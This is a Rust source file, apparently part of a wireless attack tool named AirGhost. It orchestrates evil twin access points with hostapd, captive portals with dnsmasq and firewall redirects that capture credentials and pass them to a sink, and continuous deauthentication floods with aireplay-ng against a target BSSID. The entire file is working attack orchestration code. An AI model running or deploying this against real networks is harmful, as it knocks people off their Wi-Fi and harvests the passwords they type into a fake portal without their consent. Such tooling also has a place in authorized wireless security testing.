//! Attack orchestrator
//!
//! The `AttackOrchestrator` is the main entry point for running attacks
//! in AirGhost. It provides:
//!
//! - Start/stop protocols for every attack kind
//! - Composite attacks (captive portal = AP + DHCP/DNS + redirects)
//! - Background deauthentication linked to an AP attack
//! - One record per attack kind, with lifecycle state
//! - Fault-tolerant shutdown
//!
//! Record lifecycle: `Idle -> Starting -> Running -> Stopping -> Idle`,
//! or `Starting -> Failed` when a step fails. A failed record can be
//! started again. A record whose daemon exits on its own becomes `Failed`,
//! except a deauth that finished cleanly, which returns to `Idle`.

use airghost_core::{
    AttackKind, AttackParameters, AttackState, CommandRunner, CommandSpec, Error, InterfaceMode,
    Result, RollbackPolicy, Settings,
};
use chrono::{DateTime, Utc};
use parking_lot::Mutex;
use std::collections::BTreeMap;
use std::sync::Arc;
use tracing::{debug, error, info, warn};
use uuid::Uuid;

use crate::config::{ConfigMaterializer, DaemonRole};
use crate::credentials::{CredentialRouter, CredentialSink};
use crate::firewall::Firewall;
use crate::interface::InterfaceStateMachine;
use crate::supervisor::{ProcessInfo, ProcessSupervisor};

/// State of one attack kind
#[derive(Debug, Clone, Default)]
pub struct AttackRecord {
    /// Instance id, assigned on each start
    pub id: Option<Uuid>,
    pub state: AttackState,
    pub interface: Option<String>,
    /// Launch command line
    pub command: Option<String>,
    pub pid: Option<u32>,
    pub started_at: Option<DateTime<Utc>>,
    /// Parameters the instance was started with
    pub params: Option<Arc<AttackParameters>>,
    pub last_error: Option<String>,
    /// Evil twin instance a captive portal brought up for itself
    linked_ap: Option<Uuid>,
}

/// Information about an attack kind
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct AttackInfo {
    pub kind: AttackKind,
    pub id: Option<Uuid>,
    pub state: AttackState,
    pub interface: Option<String>,
    pub command: Option<String>,
    pub pid: Option<u32>,
    pub started_at: Option<DateTime<Utc>>,
    pub last_error: Option<String>,
}

impl AttackInfo {
    fn from_record(kind: AttackKind, record: &AttackRecord) -> Self {
        Self {
            kind,
            id: record.id,
            state: record.state,
            interface: record.interface.clone(),
            command: record.command.clone(),
            pid: record.pid,
            started_at: record.started_at,
            last_error: record.last_error.clone(),
        }
    }
}

struct Inner {
    settings: Settings,
    materializer: ConfigMaterializer,
    interfaces: InterfaceStateMachine,
    supervisor: ProcessSupervisor,
    firewall: Firewall,
    credentials: CredentialRouter,
    /// One record per attack kind
    records: Mutex<BTreeMap<AttackKind, AttackRecord>>,
}

/// Orchestrates the attack kinds over shared interfaces and daemons
///
/// Cloning is cheap; clones share all state.
#[derive(Clone)]
pub struct AttackOrchestrator {
    inner: Arc<Inner>,
}

impl AttackOrchestrator {
    /// Create an orchestrator issuing all host commands through `runner`
    pub fn new(settings: Settings, runner: Arc<dyn CommandRunner>) -> Self {
        info!(
            config_dir = %settings.config_dir.display(),
            rollback = ?settings.rollback,
            "Creating new AttackOrchestrator"
        );

        let records = AttackKind::ALL
            .into_iter()
            .map(|kind| (kind, AttackRecord::default()))
            .collect();

        Self {
            inner: Arc::new(Inner {
                materializer: ConfigMaterializer::new(settings.clone()),
                interfaces: InterfaceStateMachine::new(runner.clone(), settings.kill_conflicting),
                supervisor: ProcessSupervisor::new(
                    runner.clone(),
                    settings.grace_period(),
                    settings.stop_timeout(),
                ),
                firewall: Firewall::new(runner),
                credentials: CredentialRouter::new(),
                records: Mutex::new(records),
                settings,
            }),
        }
    }

    pub fn settings(&self) -> &Settings {
        &self.inner.settings
    }

    pub fn materializer(&self) -> &ConfigMaterializer {
        &self.inner.materializer
    }

    pub fn interfaces(&self) -> &InterfaceStateMachine {
        &self.inner.interfaces
    }

    /// Router the portal surface delivers captured credentials to
    pub fn credentials(&self) -> &CredentialRouter {
        &self.inner.credentials
    }

    /// Register the sink receiving captured credentials
    pub fn set_credential_sink(&self, sink: Arc<dyn CredentialSink>) {
        self.inner.credentials.set_sink(sink);
    }

    /// Start an attack
    ///
    /// Parameters are validated before anything touches the system. Fails
    /// with `AlreadyRunning` if `kind` is starting, running or stopping.
    pub async fn start(&self, kind: AttackKind, params: AttackParameters) -> Result<AttackInfo> {
        self.refresh();
        params.validate_for(kind)?;

        info!(
            kind = %kind,
            interface = params.interface.as_deref().unwrap_or_default(),
            "Starting attack"
        );

        let params = Arc::new(params);
        match kind {
            AttackKind::EvilTwin => self.start_evil_twin(params).await,
            AttackKind::CaptivePortal => self.start_captive_portal(params).await,
            AttackKind::Deauth => self.start_deauth(params).await,
        }
    }

    async fn start_evil_twin(&self, params: Arc<AttackParameters>) -> Result<AttackInfo> {
        let kind = AttackKind::EvilTwin;
        self.claim(kind, &params)?;

        match self.launch_access_point(&params).await {
            Ok(process) => {
                let info = self.mark_running(kind, &process);
                if params.deauth {
                    self.spawn_linked_deauth(&params);
                }
                Ok(info)
            }
            Err(e) => {
                self.mark_failed(kind, &e);
                if self.inner.settings.rollback == RollbackPolicy::TearDown {
                    self.reset_interface(&params).await;
                }
                Err(e)
            }
        }
    }

    async fn launch_access_point(&self, params: &AttackParameters) -> Result<ProcessInfo> {
        let interface = params.interface()?;
        let config = self
            .inner
            .materializer
            .materialize(DaemonRole::AccessPoint, params)?;

        if let Err(e) = self.inner.interfaces.prepare(interface, InterfaceMode::Ap).await {
            warn!(interface = %interface, error = %e, "AP interface preparation incomplete");
        }

        let gateway = self.inner.settings.gateway()?;
        if let Err(e) = self.inner.interfaces.assign_address(interface, gateway).await {
            warn!(interface = %interface, error = %e, "Gateway address not assigned");
        }

        let command = CommandSpec::new("hostapd").arg(config.to_string_lossy());
        self.inner.supervisor.launch(AttackKind::EvilTwin, command).await
    }

    async fn start_captive_portal(&self, params: Arc<AttackParameters>) -> Result<AttackInfo> {
        let kind = AttackKind::CaptivePortal;
        let interface = params.interface()?.to_string();
        self.claim(kind, &params)?;

        if let Some(template) = &params.template {
            info!(kind = %kind, template = %template, "Portal template selected");
        }

        // The portal AP is always open; deauth is linked to the portal
        let ap_params = Arc::new(AttackParameters {
            security: false,
            password: None,
            deauth: false,
            ..(*params).clone()
        });
        let ap = match self.start_evil_twin(ap_params).await {
            Ok(ap) => ap,
            Err(e) => {
                self.mark_failed(kind, &e);
                return Err(e);
            }
        };
        self.with_record(kind, |record| record.linked_ap = ap.id);

        match self.launch_dhcp_dns(&params).await {
            Ok(process) => {
                if let Err(e) = self
                    .inner
                    .firewall
                    .add_portal_redirects(&interface, self.inner.settings.portal_port)
                    .await
                {
                    warn!(kind = %kind, error = %e, "Portal redirects incomplete");
                }

                let info = self.mark_running(kind, &process);
                if params.deauth {
                    self.spawn_linked_deauth(&params);
                }
                Ok(info)
            }
            Err(e) => {
                let err = match self.inner.settings.rollback {
                    RollbackPolicy::LeaveRunning => {
                        warn!(kind = %kind, error = %e, "DHCP/DNS failed, access point left running");
                        Error::PartialCompositeFailure {
                            kind,
                            running: AttackKind::EvilTwin,
                            reason: e.to_string(),
                        }
                    }
                    RollbackPolicy::TearDown => {
                        warn!(kind = %kind, error = %e, "DHCP/DNS failed, tearing down access point");
                        if let Err(stop_err) = self.stop_linked_ap(ap.id).await {
                            warn!(kind = %kind, error = %stop_err, "Access point teardown incomplete");
                        }
                        self.reset_interface(&params).await;
                        e
                    }
                };
                self.mark_failed(kind, &err);
                Err(err)
            }
        }
    }

    async fn launch_dhcp_dns(&self, params: &AttackParameters) -> Result<ProcessInfo> {
        let config = self
            .inner
            .materializer
            .materialize(DaemonRole::DhcpDns, params)?;

        let command = CommandSpec::new("dnsmasq")
            .arg("-C")
            .arg(config.to_string_lossy())
            .arg("--no-daemon");
        self.inner
            .supervisor
            .launch(AttackKind::CaptivePortal, command)
            .await
    }

    async fn start_deauth(&self, params: Arc<AttackParameters>) -> Result<AttackInfo> {
        let kind = AttackKind::Deauth;
        self.claim(kind, &params)?;

        match self.launch_deauth(&params).await {
            Ok(process) => Ok(self.mark_running(kind, &process)),
            Err(e) => {
                self.mark_failed(kind, &e);
                Err(e)
            }
        }
    }

    async fn launch_deauth(&self, params: &AttackParameters) -> Result<ProcessInfo> {
        let interface = params.interface()?;
        let bssid = params.bssid()?;

        if let Err(e) = self
            .inner
            .interfaces
            .prepare(interface, InterfaceMode::Monitor)
            .await
        {
            warn!(interface = %interface, error = %e, "Monitor mode preparation incomplete");
        }

        let mut command = CommandSpec::new("aireplay-ng")
            .arg("--deauth")
            .arg(params.count.to_string())
            .arg("-a")
            .arg(bssid.to_string());
        if let Some(client) = params.client {
            command = command.arg("-c").arg(client.to_string());
        }
        let command = command.arg(interface);

        self.inner.supervisor.launch(AttackKind::Deauth, command).await
    }

    /// Start a continuous deauth against the AP's target without waiting
    fn spawn_linked_deauth(&self, params: &AttackParameters) {
        let Some(bssid) = params.bssid else {
            warn!("Linked deauth requested without a target BSSID, skipping");
            return;
        };
        let interface = match params.linked_deauth_interface() {
            Ok(interface) => interface,
            Err(e) => {
                warn!(error = %e, "Linked deauth has no interface, skipping");
                return;
            }
        };

        let mut deauth = AttackParameters::new()
            .with_interface(interface)
            .with_bssid(bssid)
            .with_count(0);
        deauth.client = params.client;

        info!(interface = ?deauth.interface, bssid = %bssid, "Spawning linked deauth");
        let this = self.clone();
        tokio::spawn(async move {
            if let Err(e) = deauth.validate_for(AttackKind::Deauth) {
                error!(error = %e, "Linked deauth parameters invalid");
                return;
            }
            if let Err(e) = this.start_deauth(Arc::new(deauth)).await {
                error!(error = %e, "Linked deauth failed to start");
            }
        });
    }

    /// Stop an attack
    ///
    /// For AP kinds this also flushes the NAT table and returns the
    /// interface to managed mode. Stopping a captive portal stops the
    /// access point it started. The record returns to `Idle` even if the
    /// process stop reports an error, which is still returned.
    ///
    /// A `Failed` AP-family record (daemon died, or a captive portal whose
    /// access point was left running) is stopped the same way, so its
    /// firewall rules, interface and linked access point are cleaned up.
    pub async fn stop(&self, kind: AttackKind) -> Result<()> {
        let record = self.begin_stop(kind, None)?;
        info!(kind = %kind, id = ?record.id, "Stopping attack");

        let result = self.stop_process(kind).await;

        if let Some(ap_id) = record.linked_ap {
            if let Err(e) = self.stop_linked_ap(Some(ap_id)).await {
                warn!(kind = %kind, error = %e, "Linked access point stop reported an error");
            }
        }

        if kind.is_ap_family() {
            if let Err(e) = self.inner.firewall.flush_nat().await {
                warn!(kind = %kind, error = %e, "NAT flush failed");
            }
            if let Some(params) = &record.params {
                self.reset_interface(params).await;
            }
        }

        self.with_record(kind, |record| *record = AttackRecord::default());
        info!(kind = %kind, "Attack stopped");
        result
    }

    /// Stop the evil twin instance `id` a captive portal brought up
    ///
    /// Leaves firewall and interface to the caller.
    async fn stop_linked_ap(&self, id: Option<Uuid>) -> Result<()> {
        let kind = AttackKind::EvilTwin;
        match self.begin_stop(kind, id) {
            Ok(_) => {
                let result = self.stop_process(kind).await;
                self.with_record(kind, |record| *record = AttackRecord::default());
                result
            }
            Err(_) => {
                debug!("Linked access point no longer running");
                Ok(())
            }
        }
    }

    async fn stop_process(&self, kind: AttackKind) -> Result<()> {
        match self.inner.supervisor.stop(kind).await {
            // Exited on its own and was reaped
            Err(Error::NotRunning(_)) => Ok(()),
            other => other,
        }
    }

    /// Stop every attack, tolerating individual failures
    pub async fn stop_all(&self) {
        info!("Stopping all attacks");

        for kind in AttackKind::ALL {
            match self.stop(kind).await {
                Ok(()) | Err(Error::NotRunning(_)) => {}
                Err(e) => error!(kind = %kind, error = %e, "Failed to stop attack cleanly"),
            }
        }

        let leftover = self.inner.supervisor.stop_all().await;
        if leftover > 0 {
            warn!(count = leftover, "Stopped processes without an attack record");
        }
        info!("All attacks stopped");
    }

    /// Refuse further launches, then stop every attack
    pub async fn shutdown(&self) {
        info!("Shutting down AttackOrchestrator");
        self.inner.supervisor.shutdown().await;
        self.stop_all().await;
    }

    /// Information about every attack kind
    pub fn status(&self) -> Vec<AttackInfo> {
        self.refresh();
        self.inner
            .records
            .lock()
            .iter()
            .map(|(kind, record)| AttackInfo::from_record(*kind, record))
            .collect()
    }

    /// Information about one attack kind
    pub fn info(&self, kind: AttackKind) -> AttackInfo {
        self.refresh();
        self.with_record(kind, |record| AttackInfo::from_record(kind, record))
    }

    /// Snapshot of the record for `kind`, including its parameters
    pub fn record(&self, kind: AttackKind) -> AttackRecord {
        self.with_record(kind, |record| record.clone())
    }

    /// Whether `kind` is running with a live process
    pub fn is_running(&self, kind: AttackKind) -> bool {
        self.with_record(kind, |record| record.state == AttackState::Running)
            && self.inner.supervisor.is_running(kind)
    }

    /// Number of attacks in the running state
    pub fn active_count(&self) -> usize {
        self.inner
            .records
            .lock()
            .values()
            .filter(|record| record.state == AttackState::Running)
            .count()
    }

    /// Mark records whose process exited on its own as failed, or idle
    /// when the attack ran to completion
    fn refresh(&self) {
        for (kind, code) in self.inner.supervisor.cleanup_exited() {
            let completed = code == Some(0) && kind.runs_to_completion();
            self.with_record(kind, |record| {
                if record.state != AttackState::Running {
                    return;
                }
                record.pid = None;
                if completed {
                    record.state = AttackState::Idle;
                    record.last_error = None;
                } else {
                    record.state = AttackState::Failed;
                    record.last_error = Some("process exited".to_string());
                }
            });
            if completed {
                info!(kind = %kind, "Attack completed");
            }
        }
    }

    fn with_record<T>(&self, kind: AttackKind, f: impl FnOnce(&mut AttackRecord) -> T) -> T {
        let mut records = self.inner.records.lock();
        f(records.entry(kind).or_default())
    }

    /// Check-and-set `kind` from a startable state to `Starting`
    fn claim(&self, kind: AttackKind, params: &Arc<AttackParameters>) -> Result<Uuid> {
        self.with_record(kind, |record| {
            if !record.state.is_startable() {
                warn!(kind = %kind, state = %record.state, "Attack already running");
                return Err(Error::AlreadyRunning(kind));
            }

            let id = Uuid::now_v7();
            *record = AttackRecord {
                id: Some(id),
                state: AttackState::Starting,
                interface: params.interface.clone(),
                params: Some(params.clone()),
                ..AttackRecord::default()
            };
            debug!(kind = %kind, id = %id, "Attack record claimed");
            Ok(id)
        })
    }

    fn mark_running(&self, kind: AttackKind, process: &ProcessInfo) -> AttackInfo {
        let info = self.with_record(kind, |record| {
            record.state = AttackState::Running;
            record.command = Some(process.command.clone());
            record.pid = process.pid;
            record.started_at = Some(process.started_at);
            record.last_error = None;
            AttackInfo::from_record(kind, record)
        });
        info!(kind = %kind, id = ?info.id, pid = ?info.pid, "Attack running");
        info
    }

    fn mark_failed(&self, kind: AttackKind, err: &Error) {
        self.with_record(kind, |record| {
            record.state = AttackState::Failed;
            record.pid = None;
            record.last_error = Some(err.to_string());
        });
        error!(kind = %kind, error = %err, "Attack failed to start");
    }

    /// Move `kind` (optionally a specific instance) to `Stopping`
    ///
    /// Accepts running records, and failed ones that still hold a linked
    /// access point or AP-side state to tear down.
    fn begin_stop(&self, kind: AttackKind, expected: Option<Uuid>) -> Result<AttackRecord> {
        self.with_record(kind, |record| {
            let matches = expected.map_or(true, |id| record.id == Some(id));
            let stoppable = match record.state {
                AttackState::Running => true,
                AttackState::Failed => {
                    record.linked_ap.is_some() || (kind.is_ap_family() && record.params.is_some())
                }
                _ => false,
            };
            if !stoppable || !matches {
                return Err(Error::NotRunning(kind));
            }
            record.state = AttackState::Stopping;
            Ok(record.clone())
        })
    }

    async fn reset_interface(&self, params: &AttackParameters) {
        if let Ok(interface) = params.interface() {
            if let Err(e) = self.inner.interfaces.reset(interface).await {
                warn!(interface = %interface, error = %e, "Interface reset incomplete");
            }
        }
    }
}
